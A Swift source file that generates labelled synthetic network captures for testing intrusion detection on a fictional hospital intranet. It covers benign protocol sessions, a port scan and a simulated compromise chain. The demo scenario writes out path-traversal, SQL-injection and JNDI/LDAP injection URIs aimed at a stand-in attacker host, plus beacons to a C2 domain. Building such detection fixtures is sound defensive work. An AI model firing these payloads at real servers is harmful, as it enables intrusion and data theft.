/// The labelled scenarios written into Captures/. Each is a function of a fixed seed and the
/// fixed base time, so `hncapgen` regenerates byte-identical files.
public enum Scenarios {
    public static let all: [String: @Sendable () -> Scenario] = [
        "benign-small": benignSmall,
        "demo": demo,
        "protocols": protocols,
        "attacks": attacks,
        "upgrades": upgrades,
        "benign-day": benignDay,
        "revisits": revisits,
    ]

    static let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"

    // HealthNet addressing used throughout: 10.20.0.0/16 is the intranet (10.20.0.x core
    // services, 10.20.1.x a hospital, 10.20.2.x the DMZ); 198.51.100.0/24 is the internet.
    static let resolver = Host("10.20.0.53", mac: 0x53)
    static let gateway = Host("10.20.0.1", mac: 0x01)
    static let workstation = Host("10.20.1.15", mac: 0x15)
    static let admin = Host("10.20.1.5", mac: 0x05)
    static let web = Host("10.20.2.80", mac: 0x80)
    static let proxy = Host("10.20.2.43", mac: 0x43)
    static let sshHost = Host("10.20.2.22", mac: 0x22)
    static let mailRelay = Host("10.20.1.25", mac: 0x19)
    static let mailbox = Host("10.20.2.26", mac: 0x26)
    static let webProxy = Host("10.20.0.8", mac: 0x08)
    static let workstation6 = Host("2001:db8:20:1::15", mac: 0x16)
    static let resolver6 = Host("2001:db8:20::53", mac: 0x54)

    /// A few minutes of ordinary intranet traffic: DNS over IPv4 and IPv6, HTTP, TLS, SSH and
    /// ping, every TCP connection opened and closed properly.
    public static func benignSmall() -> Scenario {
        let s = Scenario(name: "benign-small", summary: "Benign intranet traffic: DNS, HTTP, TLS, SSH, ICMP; no attack.", seed: 0x484E_0001)
        var t = Scenario.baseTime
        addBrowsing(s, client: workstation, sport: 49_152, at: &t)
        addSSHSession(s, client: admin, sport: 51_022, at: &t)
        t = s.ping(workstation, gateway, at: t, count: 3)
        s.udp(workstation6, resolver6, sport: 53_001, dport: 53, at: t,
              request: Payloads.dnsQuery(id: 0x6006, name: "lab.healthnet.lu", type: 28),
              response: Payloads.dnsResponse(id: 0x6006, name: "lab.healthnet.lu", addresses: [Frames.ipv6("2001:db8:20:2::80")]),
              appProto: "dns")
        return s
    }

    /// The bundled demo: benign traffic from several members plus a port scan of the DMZ web
    /// server from the internet, interleaved in time.
    public static func demo() -> Scenario {
        let s = Scenario(name: "demo", summary: "Demo: benign member traffic, a TCP port scan of the DMZ web server, web attacks from the same address, then the server calling a listed C2.", seed: 0x484E_0002)
        var t = Scenario.baseTime
        for i in 0..<6 {
            let client = Host("10.20.1.\(30 + i)", mac: UInt8(0x30 + i))
            addBrowsing(s, client: client, sport: UInt16(50_000 + i * 7), at: &t)
            t += 3_000_000_000
        }
        var t2 = Scenario.baseTime + 1_000_000_000
        addSSHSession(s, client: admin, sport: 51_100, at: &t2)
        // A SYN scan of 200 ports: closed ports answer RST-ACK, open ones SYN-ACK and the
        // scanner resets them.
        let scanner = Host("198.51.100.23", mac: 0xEE)
        var ts = Scenario.baseTime + 5_000_000_000
        let open: Set<UInt16> = [22, 80, 443]
        for port in UInt16(1)...200 {
            let c = s.tcp(scanner, web, sport: 40_000 + port, dport: port, at: ts, rtt: 1_000_000, label: "attack:port-scan")
            if open.contains(port) {
                c.synAckThenReset()
            } else {
                c.refused()
            }
            ts += 20_000_000
        }
        // Then the same address tries web attacks on the portal.
        for (i, uri) in ["/portal/../../../../etc/passwd", "/portal/search?q=1%27%20UNION%20SELECT%20login,password%20FROM%20users--",
                         "/portal/?x=${jndi:ldap://198.51.100.23:1389/a}"].enumerated() {
            let c = s.tcp(scanner, web, sport: UInt16(41_000 + i), dport: 80, at: ts, rtt: 1_000_000, appProto: "http", label: "attack:web-exploit").handshake()
            c.send(fromClient: true, Payloads.httpRequest(uri: uri, host: "portal.healthnet.lu", userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)"))
            c.send(fromClient: false, Payloads.httpResponse(status: 404, reason: "Not Found", body: Payloads.bytes("not found")))
            c.close()
            ts = c.time + 200_000_000
        }
        // The web server, now compromised, calls a listed C2 address every 30 s.
        for i in 0..<8 {
            let jitter = Int64(s.random.next() % 500_000_000) - 250_000_000
            tlsSession(s, web, c2, sport: 43_000 + UInt16(i), sni: "c2.example.net", at: ts + 30_000_000_000 * Int64(i + 1) + jitter, label: "attack:c2")
        }
        s.expectAlert(9_200_010, scanner, web)
        s.expectAlert(9_101_003, scanner, web)
        for sid: UInt32 in [9_100_001, 9_100_002, 9_100_003] { s.expectAlert(sid, scanner, web) }
        s.expectAlert(9_100_010, scanner, web, count: 3)
        s.expectAlert(9_300_001, web, c2, count: 8)
        s.expectAlert(9_300_003, web, c2, count: 8)
        s.expectAlert(9_200_040, web, c2)
        s.expectIncident("hn-recon-scanner", "information-gathering", "scanner", "P3", sources: [scanner], targets: [web])
        s.expectIncident("hn-web-exploit", "intrusion-attempts", "exploit", "P3", sources: [scanner], targets: [web])
        s.expectIncident("hn-policy", "vulnerable", "vulnerable-system", "P4", sources: [scanner], targets: [web])
        s.expectIncident("hn-malware-c2", "malicious-code", "infected-system", "P3", sources: [web], targets: [c2])
        s.expectIncident("hn-indicator", "other", "blacklist", "P3", sources: [web], targets: [c2])
        s.expectIncident("hn-kill-chain", "intrusions", "system-compromise", "P2", sources: [scanner, web], targets: [web, c2])
        return s
    }

    /// One session of each application protocol the parsers know beyond web and DNS: SMTP
    /// with STARTTLS-less AUTH, FTP with a passive data connection, RDP connection setup, SMB2
    /// negotiation, DNS over TCP and a chunked HTTP upload.
    public static func protocols() -> Scenario {
        let s = Scenario(name: "protocols", summary: "One session per protocol: SMTP, FTP and FTP data, RDP, SMB, DNS over TCP and on port 5300, chunked HTTP.", seed: 0x484E_0003)
        var t = Scenario.baseTime
        let mail = Host("10.20.2.25", mac: 0x25)
        let smtp = s.tcp(workstation, mail, sport: 52_025, dport: 25, at: t, appProto: "smtp", label: "policy:cleartext-credentials").handshake()
        smtp.send(fromClient: false, Payloads.bytes("220 mail.healthnet.lu ESMTP\r\n"))
        smtp.send(fromClient: true, Payloads.bytes("EHLO ws15.chl.lu\r\n"))
        smtp.send(fromClient: false, Payloads.bytes("250-mail.healthnet.lu\r\n250 AUTH PLAIN LOGIN\r\n"))
        smtp.send(fromClient: true, Payloads.bytes("AUTH PLAIN AGFubmEAc2VjcmV0\r\n"))
        smtp.send(fromClient: false, Payloads.bytes("235 2.7.0 Authentication successful\r\n"))
        smtp.send(fromClient: true, Payloads.bytes("MAIL FROM:<anna@chl.lu>\r\nRCPT TO:<lab@lns.lu>\r\nDATA\r\n"))
        smtp.send(fromClient: false, Payloads.bytes("250 OK\r\n250 OK\r\n354 Go ahead\r\n"))
        smtp.send(fromClient: true, Payloads.bytes("Subject: appointment\r\n\r\nSee you Monday.\r\n.\r\nQUIT\r\n"))
        smtp.send(fromClient: false, Payloads.bytes("250 Queued\r\n221 Bye\r\n"))
        smtp.expect(#"{"event_type": "smtp", "smtp.helo": "ws15.chl.lu", "smtp.mail_from": "<anna@chl.lu>", "smtp.rcpt_to[0]": "<lab@lns.lu>", "smtp.auth_mechanism": "PLAIN", "smtp.credentials_in_clear": true}"#)
        smtp.close()
        s.expectAlert(9_200_090, workstation, mail)
        s.expectIncident("hn-cleartext-credentials", "vulnerable", "information-disclosure", "P4", sources: [workstation], targets: [mail])
        t = smtp.time + 100_000_000
        let files = Host("10.20.2.21", mac: 0x21)
        let ftp = s.tcp(admin, files, sport: 52_021, dport: 21, at: t, appProto: "ftp", label: "policy:cleartext-credentials").handshake()
        ftp.send(fromClient: false, Payloads.bytes("220 FTP ready\r\n"))
        ftp.send(fromClient: true, Payloads.bytes("USER backup\r\n"))
        ftp.send(fromClient: false, Payloads.bytes("331 Password required\r\n"))
        ftp.send(fromClient: true, Payloads.bytes("PASS backup-2026\r\n"))
        ftp.send(fromClient: false, Payloads.bytes("230 Logged in\r\n"))
        ftp.send(fromClient: true, Payloads.bytes("PASV\r\n"))
        ftp.send(fromClient: false, Payloads.bytes("227 Entering Passive Mode (10,20,2,21,195,80).\r\n"))
        ftp.send(fromClient: true, Payloads.bytes("RETR report.csv\r\n"))
        let data = s.tcp(admin, files, sport: 52_022, dport: 50_000, at: ftp.time, appProto: "ftp-data").handshake()
        data.send(fromClient: false, s.random.bytes(3000))
        data.close()
        ftp.time = data.time
        ftp.send(fromClient: false, Payloads.bytes("150 Opening data connection\r\n226 Transfer complete\r\n"))
        ftp.send(fromClient: true, Payloads.bytes("QUIT\r\n"))
        ftp.send(fromClient: false, Payloads.bytes("221 Goodbye\r\n"))
        ftp.expect(#"{"event_type": "ftp", "ftp.command": "USER", "ftp.command_data": "backup", "ftp.completion_code[0]": "331"}"#)
        ftp.expect(#"{"event_type": "ftp", "ftp.command": "PASS", "ftp.credentials_in_clear": true, "ftp.completion_code[0]": "230"}"#)
        ftp.expect(#"{"event_type": "ftp", "ftp.command": "RETR", "ftp.command_data": "report.csv", "ftp.completion_code[1]": "226"}"#)
        ftp.close()
        s.expectAlert(9_200_090, admin, files)
        s.expectAlert(9_101_004, admin, files)
        s.expectIncident("hn-cleartext-credentials", "vulnerable", "information-disclosure", "P4", sources: [admin], targets: [files])
        t = ftp.time + 100_000_000
        let terminal = Host("10.20.2.33", mac: 0x33)
        let rdp = s.tcp(admin, terminal, sport: 52_389, dport: 3389, at: t, appProto: "rdp").handshake()
        let cookie = Payloads.bytes("Cookie: mstshash=admin\r\n")
        let neg: [UInt8] = [0x01, 0x00, 0x08, 0x00, 0x03, 0x00, 0x00, 0x00]
        let cr: [UInt8] = [UInt8(6 + cookie.count + neg.count), 0xE0, 0, 0, 0, 0, 0] + cookie + neg
        rdp.send(fromClient: true, [3, 0, 0, UInt8(4 + cr.count)] + cr)
        let cc: [UInt8] = [14, 0xD0, 0, 0, 0x12, 0x34, 0, 0x02, 0x00, 0x08, 0x00, 0x02, 0x00, 0x00, 0x00]
        rdp.send(fromClient: false, [3, 0, 0, UInt8(4 + cc.count)] + cc)
        rdp.send(fromClient: true, s.random.bytes(400))
        rdp.expect(#"{"event_type": "rdp", "rdp.event_type": "initial_request", "rdp.cookie": "admin", "rdp.requested_protocols[0]": "ssl", "rdp.requested_protocols[1]": "hybrid"}"#)
        rdp.expect(#"{"event_type": "rdp", "rdp.event_type": "initial_response", "rdp.protocol[0]": "hybrid"}"#)
        rdp.close()
        t = rdp.time + 100_000_000
        let fileServer = Host("10.20.0.45", mac: 0x45)
        let smb = s.tcp(workstation, fileServer, sport: 52_445, dport: 445, at: t, appProto: "smb").handshake()
        var header = [UInt8](repeating: 0, count: 64)
        header[0] = 0xFE; header[1] = 0x53; header[2] = 0x4D; header[3] = 0x42; header[4] = 64
        var negotiate = [UInt8](repeating: 0, count: 36)
        negotiate[0] = 36; negotiate[2] = 3
        let request = header + negotiate + [0x02, 0x02, 0x10, 0x03, 0x11, 0x03]
        smb.send(fromClient: true, [0, 0, UInt8(request.count >> 8), UInt8(request.count & 0xFF)] + request)
        var responseHeader = header
        responseHeader[16] = 1  // server-to-redirector flag
        let response = responseHeader + [65, 0, 1, 0, 0x11, 0x03] + [UInt8](repeating: 0, count: 58)
        smb.send(fromClient: false, [0, 0, UInt8(response.count >> 8), UInt8(response.count & 0xFF)] + response)
        smb.expect(#"{"event_type": "smb", "smb.dialect": "3.11", "smb.client_dialects[2]": "3.11"}"#)
        smb.close()
        t = smb.time + 100_000_000
        let dnsTCP = s.tcp(workstation, resolver, sport: 52_053, dport: 53, at: t, appProto: "dns").handshake()
        let query = Payloads.dnsQuery(id: 77, name: "records.healthnet.lu")
        dnsTCP.send(fromClient: true, Frames.be16(UInt16(query.count)) + query)
        let answer = Payloads.dnsResponse(id: 77, name: "records.healthnet.lu", addresses: [proxy.ip])
        dnsTCP.send(fromClient: false, Frames.be16(UInt16(answer.count)) + answer)
        dnsTCP.expect(#"{"event_type": "dns", "dns.type": "request", "dns.id": 77, "dns.queries[0].rrname": "records.healthnet.lu"}"#)
        dnsTCP.expect(#"{"event_type": "dns", "dns.type": "response", "dns.id": 77, "dns.answers[0].rdata": "10.20.2.43"}"#)
        dnsTCP.close()
        t = dnsTCP.time + 100_000_000
        // DNS on a non-standard port is recognised by its structure.
        t = s.udp(workstation, resolver, sport: 52_054, dport: 5300, at: t,
                  request: Payloads.dnsQuery(id: 78, name: "lab.healthnet.lu"),
                  response: Payloads.dnsResponse(id: 78, name: "lab.healthnet.lu", addresses: [web.ip]), appProto: "dns",
                  records: [#"{"event_type": "dns", "dns.type": "request", "dns.id": 78, "dns.queries[0].rrname": "lab.healthnet.lu"}"#,
                            #"{"event_type": "dns", "dns.type": "response", "dns.id": 78, "dns.answers[0].rdata": "10.20.2.80"}"#])
        t += 100_000_000
        let upload = s.tcp(workstation, web, sport: 52_080, dport: 80, at: t, appProto: "http").handshake()
        upload.send(fromClient: true, Payloads.bytes("POST /upload HTTP/1.1\r\nHost: portal.healthnet.lu\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"))
        upload.send(fromClient: false, Payloads.httpResponse(status: 201, reason: "Created", body: Payloads.bytes("ok")))
        upload.expect(#"{"event_type": "http", "http.url": "/upload", "http.http_method": "POST", "http.status": 201, "http.length": 2}"#)
        upload.close()
        return s
    }

    static func addBrowsing(_ s: Scenario, client: Host, sport: UInt16, at t: inout Int64) {
        let id = UInt16(truncatingIfNeeded: s.random.next())
        t = s.udp(client, resolver, sport: sport &+ 1, dport: 53, at: t,
                  request: Payloads.dnsQuery(id: id, name: "portal.healthnet.lu"),
                  response: Payloads.dnsResponse(id: id, name: "portal.healthnet.lu", addresses: [proxy.ip, web.ip]),
                  appProto: "dns",
                  records: [#"{"event_type": "dns", "dns.type": "request", "dns.id": \#(id), "dns.queries[0].rrname": "portal.healthnet.lu", "dns.queries[0].rrtype": "A"}"#,
                            #"{"event_type": "dns", "dns.type": "response", "dns.id": \#(id), "dns.rcode": "NOERROR", "dns.answers[0].rdata": "10.20.2.43", "dns.answers[1].rdata": "10.20.2.80"}"#])
        t += 5_000_000
        let http = s.tcp(client, web, sport: sport &+ 2, dport: 80, at: t, appProto: "http").handshake()
        let page = Payloads.htmlPage("Portal", size: 3000)
        http.send(fromClient: true, Payloads.httpRequest(uri: "/intranet/index.html", host: "portal.healthnet.lu", userAgent: ua))
        http.send(fromClient: false, Payloads.httpResponse(body: page))
        http.expect(#"{"event_type": "http", "http.hostname": "portal.healthnet.lu", "http.url": "/intranet/index.html", "http.http_method": "GET", "http.protocol": "HTTP/1.1", "http.status": 200, "http.http_content_type": "text/html", "http.length": \#(page.count)}"#)
        http.close()
        t = http.time + 50_000_000
        let tls = s.tcp(client, proxy, sport: sport &+ 3, dport: 443, at: t, appProto: "tls").handshake()
        tls.expect(#"{"event_type": "tls", "tls.sni": "portal.healthnet.lu", "tls.version": "TLS 1.3"}"#)
        tls.tls(sni: "portal.healthnet.lu", clientData: 600, serverData: 5000)
        tls.close()
        t = tls.time + 100_000_000
    }

    static func addSSHSession(_ s: Scenario, client: Host, sport: UInt16, at t: inout Int64) {
        let ssh = s.tcp(client, sshHost, sport: sport, dport: 22, at: t, appProto: "ssh").handshake()
            .expect(#"{"event_type": "ssh", "ssh.client.proto_version": "2.0", "ssh.client.software_version": "OpenSSH_9.6", "ssh.server.software_version": "OpenSSH_9.2p1"}"#)
        ssh.send(fromClient: false, Payloads.sshBanner("OpenSSH_9.2p1 Debian-2+deb12u3"))
        ssh.send(fromClient: true, Payloads.sshBanner("OpenSSH_9.6"))
        ssh.send(fromClient: true, Payloads.sshKexInit(random: &s.random, server: false))
        ssh.send(fromClient: false, Payloads.sshKexInit(random: &s.random, server: true))
        for _ in 0..<4 {
            ssh.send(fromClient: true, s.random.bytes(64))
            ssh.send(fromClient: false, s.random.bytes(300))
        }
        ssh.close()
        t = ssh.time + 100_000_000
    }
}

extension TCPConversation {
    /// A TLS session on this connection: the ClientHello with `sni`, the server's TLS 1.3
    /// flight (or, `legacy`, a TLS 1.0 ServerHello with an EXPORT cipher), then one record of
    /// application data each way. Sizes are read when their record is made, so a size drawn
    /// from the scenario's random source keeps its place in the sequence.
    public func tls(sni: String, legacy: Bool = false, clientData: @autoclosure () -> Int, serverData: @autoclosure () -> Int) {
        send(fromClient: true, Payloads.tlsClientHello(sni: sni, random: &scenario.random))
        send(fromClient: false, legacy ? Payloads.tlsLegacyServerHello(version: 0x0301, cipher: 0x0003, random: &scenario.random)
                                       : Payloads.tlsServerFlight(random: &scenario.random))
        send(fromClient: true, Payloads.tlsApplicationData(clientData(), random: &scenario.random))
        send(fromClient: false, Payloads.tlsApplicationData(serverData(), random: &scenario.random))
    }

    /// A line protocol's exchange: `texts` sent in turn by the two sides, the server first
    /// when `serverFirst` (a greeting), each as one send.
    public func alternate(serverFirst: Bool, _ texts: [String]) {
        for (i, text) in texts.enumerated() { send(fromClient: (i % 2 == 0) != serverFirst, Payloads.bytes(text)) }
    }

    /// An SSH session up to the encrypted part: both banners (the server's OpenSSH 9.2 on
    /// Debian), both KEXINITs, the key exchange and both NEWKEYS.
    public func sshThroughKeyExchange(client: String, _ random: inout SeededRandom) {
        send(fromClient: false, Payloads.sshBanner("OpenSSH_9.2p1 Debian-2+deb12u3"))
        send(fromClient: true, Payloads.sshBanner(client))
        send(fromClient: true, Payloads.sshKexInit(random: &random, server: false))
        send(fromClient: false, Payloads.sshKexInit(random: &random, server: true))
        send(fromClient: true, Payloads.sshKeyExchange(random: &random, server: false))
        send(fromClient: false, Payloads.sshKeyExchange(random: &random, server: true))
    }

    /// An open port during a SYN scan: SYN, SYN-ACK, then the scanner's RST.
    public func synAckThenReset() {
        segment(fromClient: true, flags: 0x02, options: [2, 4, 0x05, 0xB4])
        time += rtt / 2
        segment(fromClient: false, flags: 0x12, options: [2, 4, 0x05, 0xB4])
        time += rtt / 2
        segment(fromClient: true, flags: 0x04)
        label.state = "closed"
        label.tcpState = "closed"
        finish()
    }
}
